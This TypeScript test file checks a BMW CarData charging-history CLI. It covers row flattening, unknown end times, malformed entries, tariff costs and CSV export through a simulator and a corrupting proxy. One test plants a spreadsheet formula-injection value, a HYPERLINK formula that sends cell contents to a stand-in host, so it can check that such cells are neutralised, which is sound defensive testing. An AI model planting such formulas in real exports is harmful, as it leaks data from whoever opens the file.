// Flat rows and CSV: unknown end times, entries that are not sessions, and cells a spreadsheet would run as formulas.
// The command line runs for real against the simulator, or against a proxy in front of it that spoils BMW's answer.
import assert from 'assert';
import * as fs from 'fs';
import * as http from 'http';
import * as os from 'os';
import * as path from 'path';
import { execFile } from 'child_process';
import { startSimulator, SIM_VINS } from '../../src/simulator';
import { flattenChargingSession as flattenSession, isChargingSessionEntry } from '../../src/core';
import type { Raw } from '../support/raw';
import { toCsv } from '../../src/cli/csv';

const CLI = path.join(__dirname, '../../dist/src/cli/main.js');
const VIN = SIM_VINS.bev;
const HOUR = 3600;
// Fed raw entries as BMW may send them.
const flattenChargingSession = flattenSession as Raw<typeof flattenSession>;

function runCli(args: string[]) {
  return new Promise<{ code: number | string | null | undefined; stdout: string; stderr: string }>((resolve) => {
    execFile(process.execPath, [CLI, ...args], { timeout: 30_000 }, (error, stdout, stderr) => resolve({ code: error ? error.code : 0, stdout, stderr }));
  });
}

/** RFC 4180: rows of cells, with quoted cells unquoted. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  assert.ok(!quoted && cell === '' && row.length === 0, 'the CSV ends with CRLF after a complete row');
  return rows;
}

/** CSV text as objects keyed by the header. */
function records(text) {
  const [header, ...rows] = parseCsv(text);
  for (const r of rows) assert.strictEqual(r.length, header.length, 'every row has every column');
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

describe('flat charging rows and CSV', function () {
  describe('flattenChargingSession and toCsv', () => {
    const base = {
      startTime: 1780000000,
      endTime: 1780003600,
      timeZone: 'Europe/Berlin',
      displayedStartSoc: 20,
      displayedSoc: 80,
      totalChargingDurationSec: 3000,
    };

    it('an end that is null, 0 or before the start is unknown: empty, with no plugged-in minutes', () => {
      assert.strictEqual(flattenChargingSession(base).pluggedMinutes, 60);
      for (const endTime of [null, 0, undefined, base.startTime - 1800]) {
        const row = flattenChargingSession({ ...base, endTime });
        assert.strictEqual(row.end, '', `endTime ${endTime}`);
        assert.strictEqual(row.pluggedMinutes, null, `endTime ${endTime}`);
        assert.strictEqual(row.start, '2026-05-28T22:26:40+02:00');
      }
      assert.strictEqual(flattenChargingSession({ ...base, startTime: 0 }).start, '', 'start 0 is no time either');
    });

    it('never throws on entries that are not sessions or on fields of the wrong type', () => {
      for (const entry of [null, undefined, 7, 'session', [], {}]) {
        const row = flattenChargingSession(entry);
        assert.strictEqual(row.start, '');
        assert.strictEqual(row.mileage, null);
      }
      const odd = {
        ...base,
        timeZone: 12,
        chargingLocation: null,
        publicChargingPoint: { potentialChargingPointMatches: null },
        businessErrors: 'oops',
        chargingCostInformation: 'free',
        chargingBlocks: null,
      };
      const row = flattenChargingSession(odd);
      assert.deepStrictEqual([row.timeZone, row.address, row.publicProvider, row.businessErrors, row.cost, row.chargingBlocks], ['UTC', '', '', '', null, 0]);
      const strange = flattenChargingSession({
        ...base,
        chargingLocation: { municipality: 5, formattedAddress: null },
        businessErrors: [null, { hint: 3 }, { hint: 'Stopped' }],
      });
      assert.deepStrictEqual([strange.municipality, strange.address, strange.businessErrors], ['', '', 'Stopped']);
      assert.deepStrictEqual([null, undefined, 7, 'x', [], {}, base].map(isChargingSessionEntry), [false, false, false, false, false, true, true]);
    });

    it('CSV: text that starts like a formula gets a leading quote; numbers and plain numbers in text stay as they are', () => {
      const texts = ['=1+2', '+49 89 1234', '-rf', '@SUM(A1)', '\tTAB', '\rCR', '=A1,"B1"', '-1+2', '-'];
      const plain = ['-12.5', '-3', '-.5', '-1e3', 'Munich', '', 'a=b', ' =x'];
      const row = { n: -7, f: -0.25, big: -1e21, yes: false };
      texts.forEach((t, i) => (row[`t${i}`] = t));
      plain.forEach((t, i) => (row[`p${i}`] = t));
      const csv = toCsv([row]);
      const [got] = records(csv);
      texts.forEach((t, i) => assert.strictEqual(got[`t${i}`], `'${t}`, JSON.stringify(t)));
      plain.forEach((t, i) => assert.strictEqual(got[`p${i}`], t, JSON.stringify(t)));
      assert.deepStrictEqual([got.n, got.f, got.big, got.yes], ['-7', '-0.25', '-1e+21', 'false']);
      assert.ok(csv.split('\r\n')[1].startsWith('-7,-0.25,-1e+21,false,'), 'numbers are written bare');
      assert.deepStrictEqual(
        records(toCsv([{ '=header': 1 }])).map((r) => Object.keys(r)),
        [["'=header"]],
        'header cells too',
      );
    });
  });

  describe('the command line', () => {
    let sim;
    let dir;
    let config;
    const nowS = () => Math.floor(Date.now() / 1000);
    const history = (baseUrl, extra = []) =>
      runCli([
        'charging-history',
        '--vin',
        VIN,
        '--last',
        '24h',
        '--format',
        'csv',
        '--base-url',
        baseUrl,
        '--auth-url',
        sim.authBaseUrl,
        '--config',
        config,
        ...extra,
      ]);

    before(async () => {
      sim = await startSimulator({ autoApprove: true, pollIntervalSec: 0, chargingSessions: 60, dailyQuota: 1000 });
      dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cardata-csv-'));
      config = path.join(dir, 'account.json');
      const login = await runCli(['login', '--client-id', 'csv-client', '--base-url', sim.apiBaseUrl, '--auth-url', sim.authBaseUrl, '--config', config]);
      assert.strictEqual(login.code, 0, login.stderr);
    });
    after(async () => {
      await sim.close();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    it('sessions with an end that is null, 0 or before the start have an empty end, never 1970 or negative minutes', async () => {
      const ongoing = sim.startChargingSession(VIN, { startTime: nowS() - 2 * HOUR });
      const zero = sim.addChargingSession(VIN, { startTime: nowS() - 5 * HOUR, endTime: 0 });
      const backwards = sim.addChargingSession(VIN, { startTime: nowS() - 8 * HOUR, endTime: nowS() - 9 * HOUR });
      const done = sim.addChargingSession(VIN, { startTime: nowS() - 12 * HOUR });
      const res = await history(sim.apiBaseUrl);
      assert.strictEqual(res.code, 0, res.stderr);
      const rows = records(res.stdout);
      const at = (s) => rows.find((r) => Date.parse(r.start) === s.startTime * 1000);
      for (const s of [ongoing, zero, backwards]) {
        const row = at(s);
        assert.ok(row, `no row for the session that started at ${s.startTime}`);
        assert.strictEqual(row.end, '');
        assert.strictEqual(row.pluggedMinutes, '');
      }
      assert.strictEqual(Date.parse(at(done).end), done.endTime * 1000);
      assert.strictEqual(Number(at(done).pluggedMinutes), Math.round((done.endTime - done.startTime) / 6) / 10);
      for (const row of rows) {
        assert.ok(!row.start.startsWith('1970') && !row.end.startsWith('1970'), JSON.stringify(row));
        assert.ok(row.pluggedMinutes === '' || Number(row.pluggedMinutes) >= 0, JSON.stringify(row));
      }
    });

    it('cells that would run as formulas are neutralised; negative numbers stay numbers', async () => {
      const evil = sim.addChargingSession(VIN, {
        startTime: nowS() - 15 * HOUR,
        chargingLocation: {
          municipality: '=HYPERLINK("https://example.invalid/?x="&A1,"Sydney")',
          formattedAddress: '+61 George Street, Sydney',
          streetAddress: '@George Street',
          mapMatchedLatitude: -33.8688,
          mapMatchedLongitude: 151.2093,
        },
        businessErrors: [{ creationTime: new Date().toISOString(), hint: '-2+3' }],
      });
      const out = path.join(dir, 'evil.csv');
      const res = await history(sim.apiBaseUrl, ['--out', out]);
      assert.strictEqual(res.code, 0, res.stderr);
      const text = fs.readFileSync(out, 'utf8');
      const row = records(text).find((r) => Date.parse(r.start) === evil.startTime * 1000);
      assert.strictEqual(row.municipality, `'${evil.chargingLocation.municipality}`);
      assert.strictEqual(row.address, `'${evil.chargingLocation.formattedAddress}`);
      assert.strictEqual(row.businessErrors, "'-2+3");
      assert.strictEqual(row.latitude, '-33.8688');
      assert.ok(text.includes(',-33.8688,151.2093,'), 'the coordinates are bare numbers');
    });

    it('with a "tariff" in the account file the rows gain our cost beside BMW\'s own, never mixed; without one they are as before', async () => {
      const start = nowS() - 20 * HOUR;
      const priced = sim.addChargingSession(VIN, {
        startTime: start,
        endTime: start + 2 * HOUR,
        energyConsumedFromPowerGridKwh: 20,
        chargingCostInformation: { currency: 'CHF', calculatedChargingCost: 7.1, calculatedSavings: 0 },
      });
      const ongoing = sim.startChargingSession(VIN, { startTime: nowS() - HOUR });
      const withTariff = (tariff) => fs.writeFileSync(config, JSON.stringify({ ...JSON.parse(fs.readFileSync(config, 'utf8')), tariff }));
      try {
        const before = await history(sim.apiBaseUrl);
        assert.strictEqual(before.code, 0, before.stderr);
        assert.ok(!parseCsv(before.stdout)[0].some((column) => column.startsWith('tariff')), 'no cost of ours without a tariff');

        withTariff({ currency: 'EUR', pricePerKwh: 0.3, perSession: 1 });
        const res = await history(sim.apiBaseUrl);
        assert.strictEqual(res.code, 0, res.stderr);
        const rows = records(res.stdout);
        const at = (session) => rows.find((r) => Date.parse(r.start) === session.startTime * 1000);
        const row = at(priced);
        // 20 kWh at 0.30 and 1 for the session: 7 EUR, beside BMW's 7.1 CHF.
        assert.deepStrictEqual(
          [row.cost, row.currency, row.tariffCost, row.tariffCurrency, row.tariffKwh, row.tariffMethod],
          ['7.1', 'CHF', '7', 'EUR', '20', 'flat'],
        );
        assert.deepStrictEqual([at(ongoing).tariffCost, at(ongoing).tariffKwh, at(ongoing).tariffCurrency], ['', '', 'EUR'], 'no cost before the end is known');
        assert.deepStrictEqual(parseCsv(res.stdout)[0], parseCsv(before.stdout)[0].concat(['tariffCost', 'tariffCurrency', 'tariffKwh', 'tariffMethod']));
        // JSON is BMW's answer as it came: no column of ours in it.
        const json = await history(sim.apiBaseUrl, ['--format', 'json']);
        assert.ok(JSON.parse(json.stdout).every((s) => !('tariffCost' in s)));

        withTariff('{"currency":"EURO","pricePerKwh":0.3}');
        sim.clearLog();
        const refused = await history(sim.apiBaseUrl);
        assert.notStrictEqual(refused.code, 0);
        assert.match(refused.stderr, /the "tariff" of .*account\.json: The currency must be a three-letter code/);
        assert.strictEqual(sim.restCalls().length, 0, 'refused before any call');
      } finally {
        withTariff(undefined);
      }
    });

    describe('behind a proxy that spoils the charging history', () => {
      let proxy;
      let spoil;
      before(async () => {
        // Passes every request to the simulator; the charging history's list gets what `spoil` makes of it.
        proxy = http.createServer(async (req, res) => {
          const body = await new Promise<Buffer>((resolve) => {
            const chunks = [];
            req.on('data', (c) => chunks.push(c)).on('end', () => resolve(Buffer.concat(chunks)));
          });
          const headers = { ...req.headers };
          delete headers.host;
          const upstream = await fetch(`${sim.apiBaseUrl}${req.url}`, {
            method: req.method,
            headers: headers as Record<string, string>,
            body: (body.length ? body : undefined) as unknown as Parameters<typeof fetch>[1]['body'],
          });
          let answer = Buffer.from(await upstream.arrayBuffer());
          if (/\/chargingHistory$/.test(new URL(req.url, 'http://proxy.invalid').pathname) && upstream.ok) {
            const page = JSON.parse(answer.toString());
            page.data = spoil(page.data);
            answer = Buffer.from(JSON.stringify(page));
          }
          res.writeHead(upstream.status, { 'content-type': upstream.headers.get('content-type') || 'application/json' });
          res.end(answer);
        });
        await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
      });
      after(() => new Promise((resolve) => proxy.close(resolve)));
      const proxyUrl = () => `http://127.0.0.1:${(proxy.address() as { port: number }).port}`;

      it('partial sessions (missing fields, fields of another type) become rows; the export does not crash', async () => {
        spoil = (data) => [
          {},
          {
            startTime: nowS() - HOUR,
            endTime: null,
            chargingLocation: null,
            businessErrors: 'oops',
            publicChargingPoint: { potentialChargingPointMatches: null },
          },
          ...data,
        ];
        const res = await history(proxyUrl());
        assert.strictEqual(res.code, 0, res.stderr);
        assert.doesNotMatch(res.stderr, /TypeError/);
        const rows = records(res.stdout);
        const count = Number(res.stderr.match(/(\d+) sessions from/)[1]);
        assert.strictEqual(rows.length, count);
        assert.ok(count >= 3, `${count} rows`);
        assert.deepStrictEqual([rows[0].start, rows[0].end, rows[1].end, rows[1].businessErrors, rows[1].address], ['', '', '', '', '']);
      });

      it('a null entry in a page never crashes the CSV export: exit 5, naming the entry', async () => {
        spoil = (data) => [...data, null];
        const res = await history(proxyUrl());
        assert.strictEqual(res.code, 5, res.stderr);
        assert.doesNotMatch(res.stderr, /TypeError|Cannot read/);
        assert.match(res.stderr, /^bmw-cardata: getChargingHistory: .*entry (\d+) of \1 is null/m);
        assert.strictEqual(res.stdout, '', 'no half-written CSV');
      });
    });
  });
});
